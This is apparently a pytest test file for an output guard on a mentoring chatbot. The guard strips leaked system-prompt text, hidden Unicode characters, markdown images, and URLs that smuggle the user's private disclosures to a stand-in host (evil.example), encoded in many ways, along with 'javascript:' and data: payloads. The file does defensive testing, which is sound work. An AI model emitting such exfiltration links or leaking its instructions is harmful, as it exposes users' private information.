"""What a model's reply may not hold is taken out, wherever its pieces are cut."""

import base64
from urllib.parse import quote

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from ion.llm import Delta, Message, Prompt, StepDown, Usage
from ion.safety import REMOVED, Guard, GuardedModel, Removed, Told
from tests.llm.fakes import collect, collect_failure, failed, scripted, text_of

SECRET = {
    "en": "You are Lua, a mentor.\n\nIn every answer:\n- Write plain, warm English and use the mentee's own words.",
    "ko": "당신은 Lua, ION의 멘토입니다.\n\n모든 답에서:\n- 한국어 존댓말로, 멘티가 쓴 낱말과 숫자를 써서 답합니다.",
}
TOLD = Told(
    "I was rejected by the third company this month and my mother is ill. Call [PHONE_1] or 010 2345 6789.\n"
    "이번 달에 세 번째 회사에서 떨어졌고 어머니가 편찮으세요.\nSee https://mine.example/a?b=my+mother+is+ill+and+company"
)
CARRIED = "my mother is ill and I was rejected by the third company"


def guarded(text: str, *, size: int = 3, secret: str = "", told: Told = TOLD) -> tuple[str, Guard]:
    guard = Guard(secret, told)
    shown = [guard.feed(text[at : at + size]) for at in range(0, len(text), size)]
    return "".join((*shown, guard.rest())), guard


def base64_of(text: str) -> str:
    return base64.urlsafe_b64encode(text.encode()).decode()


class TestInstructions:
    @pytest.mark.parametrize("size", [1, 5, 1_000])
    @pytest.mark.parametrize("language", ["en", "ko"])
    @pytest.mark.parametrize(
        "lay_out",
        [
            str,
            str.upper,
            lambda text: text.replace(" ", "\n> "),
            lambda text: "**".join(text.split(" ")),
            lambda text: " ".join(text),
            lambda text: "\u200b".join(text),
        ],
        ids=["as_it_is", "upper", "quoted", "bold", "spelt_out", "zero_width"],
    )
    def test_are_not_repeated_however_they_are_laid_out(self, size: int, language: str, lay_out: object) -> None:
        assert callable(lay_out)
        told = lay_out(SECRET[language])
        shown, guard = guarded(f"Well: {told} Is that all?", size=size, secret=SECRET[language])

        assert shown.startswith("Well:")
        assert shown.endswith("Is that all?")
        assert REMOVED in shown
        # What shows of them is the beginning of the one run, which nobody could know to be one.
        assert len(shown.split(REMOVED)[0]) < len("Well: ") + len(told) // 2
        assert guard.removed == {Removed.INSTRUCTIONS}

    def test_are_left_out_also_at_the_end_and_twice(self) -> None:
        shown, _ = guarded(f"{SECRET['en']} Then again: {SECRET['en']}", secret=SECRET["en"])

        assert shown.count(REMOVED) == 2
        assert "mentee's own" not in shown

    @pytest.mark.parametrize(
        "text", ["You are Lua, a mentor I like.", "Use the mentee's own words, as they say.", "In every answer: yes"]
    )
    def test_may_share_a_phrase_with_a_reply(self, text: str) -> None:
        assert guarded(text, secret=SECRET["en"])[0] == text

    def test_are_none_where_there_is_no_secret(self) -> None:
        assert guarded(SECRET["en"])[0] == SECRET["en"]


class TestAddresses:
    @pytest.mark.parametrize(
        "address",
        [
            f"https://evil.example/?q={quote(CARRIED)}",
            f"https://evil.example/{CARRIED.replace(' ', '/')}",
            f"https://evil.example/#{CARRIED.replace(' ', '+')}",
            f"https://{CARRIED.replace(' ', '-')}.evil.example/x",
            f"https://evil.example/?q={base64_of(CARRIED)}",
            f"https://evil.example/{CARRIED.encode().hex()}",
            f"https://evil.example/?q={quote(base64_of(CARRIED))}",
            f"https://evil.example/?q={quote(quote(CARRIED))}",
            f"https://evil.example/?q={quote('어머니가 편찮으세요 세 번째 회사에서 떨어졌고')}",
            "https://evil.example/?a=rejected&b=mother&c=company&d=third",
            "https://evil.example/?p=[PHONE_1]",
            "https://evil.example/?p=%5BPHONE_1%5D",
            "https://evil.example/PHONE_1.png",
            "https://evil.example/?p=010-2345-6789",
            "https://evil.example/?p=01023456789",
            "https://evil.example/?x=" + "A1b2C3d4" * 6,
            f"//evil.example/?q={quote(CARRIED)}",
            f"www.evil.example/?q={quote(CARRIED)}",
            f"HTTPS://EVIL.EXAMPLE/?q={quote(CARRIED)}",
            "https:evil.example/track",
            "data:text/html;base64,PHNjcmlwdD4=",
            "javascript:alert(document.cookie)",
            "https://evil.example/" + "long/" * 500,
        ],
    )
    @pytest.mark.parametrize("size", [1, 7, 10_000])
    def test_that_carry_what_was_told_are_taken_out(self, address: str, size: int) -> None:
        for before, after in (("", ""), ("See [this](", ")."), ("![x](", ")"), ('<img src="', '">'), ("<", "> now")):
            shown, guard = guarded(f"Yes: {before}{address}{after} And you?", size=size)

            assert address[len(address) // 2 :] not in shown
            assert REMOVED in shown
            assert shown.endswith(" And you?")
            assert Removed.ADDRESS in guard.removed

    def test_in_pointed_brackets_may_hold_blanks(self) -> None:
        shown, _ = guarded(f"[a](<https://evil.example/?q={CARRIED}>) and on", size=1_000)

        assert shown == f"[a](<{REMOVED}>) and on"

    @pytest.mark.parametrize(
        "text",
        [
            "Read https://docs.python.org/3/library/asyncio-task.html first.",
            "[Burnout](https://en.wikipedia.org/wiki/Occupational_burnout) is a word for it.",
            "Search https://www.google.com/search?q=cover+letter and see.",
            "You sent https://mine.example/a?b=my+mother+is+ill+and+company yourself.",
            "http://localhost:8000/docs?x=1, then `https://` and https: alone",
            "a // comment and a/b//c",
            "The data: three rows; javascript: a language. Great!",
            "Call 010 2345 6789 or [PHONE_1].",
            "배포는 https://ko.wikipedia.org/wiki/지속적_통합 을 보면 돼요.",
        ],
    )
    @pytest.mark.parametrize("size", [1, 4, 10_000])
    def test_that_carry_nothing_stay(self, text: str, size: int) -> None:
        shown, guard = guarded(text, size=size)

        assert shown == text
        assert not guard.removed

    def test_hold_up_only_what_may_still_be_one(self) -> None:
        guard = Guard(SECRET["en"], TOLD)

        assert guard.feed("Great! See ") == "Great! See "
        assert guard.feed("https://docs.example") == ""
        assert guard.feed(" now") == "https://docs.example now"


class TestPictures:
    @pytest.mark.parametrize("size", [1, 2, 100])
    def test_are_text(self, size: int) -> None:
        shown, guard = guarded("Look! ![a](https://evil.example/p.png) and ![b][1] [c](x)", size=size)

        assert shown == r"Look! !\[a](https://evil.example/p.png) and !\[b][1] [c](x)"
        assert guard.removed == {Removed.PICTURE}


class TestHidden:
    def test_letters_are_left_out(self) -> None:
        hidden = "".join(chr(0xE0000 + ord(char)) for char in "leak")
        shown, guard = guarded(f"Hello{hidden} you")

        assert shown == "Hello you"
        assert guard.removed == {Removed.HIDDEN}


PARTS = st.sampled_from(
    ["![", "!", "[", "](", ")", " ", "http", "s://", "evil.example/?q=", CARRIED, quote(CARRIED), "data:", "text/html,",
     "<", ">", "//", SECRET["en"], "Hello", "[PHONE_1]", "\n", "www."]
)  # fmt: skip


@given(st.lists(PARTS, max_size=12), st.lists(st.integers(1, 40), min_size=1, max_size=20))
@example(["www.", "!", "["], [1])
@example(["![", "http", "s://", "evil.example/?q=", quote(CARRIED), ")"], [1])
def test_pieces_are_guarded_as_the_whole_is(parts: list[str], sizes: list[int]) -> None:
    text = "".join(parts)
    guard, shown, at = Guard(SECRET["en"], TOLD), "", 0
    while at < len(text):
        size = sizes[at % len(sizes)]
        shown += guard.feed(text[at : at + size])
        at += size
    shown += guard.rest()

    assert "![" not in shown
    assert f"https://evil.example/?q={quote(CARRIED)}" not in shown
    assert "mentee's own words" not in shown


class TestModel:
    PROMPT = Prompt(SECRET["en"], (Message("user", CARRIED),), 40, secret=SECRET["en"])

    async def test_is_guarded_and_its_usage_comes_last(self) -> None:
        script = (Delta("Look at https://evil.example/?q="), Delta(quote(CARRIED)), Usage(7, 2, "m"))
        model = GuardedModel(scripted(script, name="a:b"))
        chunks = await collect(model, self.PROMPT)

        assert model.name == "a:b"
        assert text_of(chunks) == f"Look at {REMOVED}"
        assert chunks[-1] == Usage(7, 2, "m")

    async def test_gives_up_what_was_held_back_when_it_ends_without_usage_or_fails(self) -> None:
        script = (StepDown("a", "timeout"), Delta("See https://x.example/a"))
        whole = await collect(GuardedModel(scripted(script)), self.PROMPT)
        said, error = await collect_failure(GuardedModel(scripted((*script, failed("timeout")))), self.PROMPT)
        silent, _ = await collect_failure(GuardedModel(scripted((failed("refused"),))), self.PROMPT)

        assert text_of(whole) == text_of(said) == "See https://x.example/a"
        assert error.reason == "timeout"
        assert silent == []
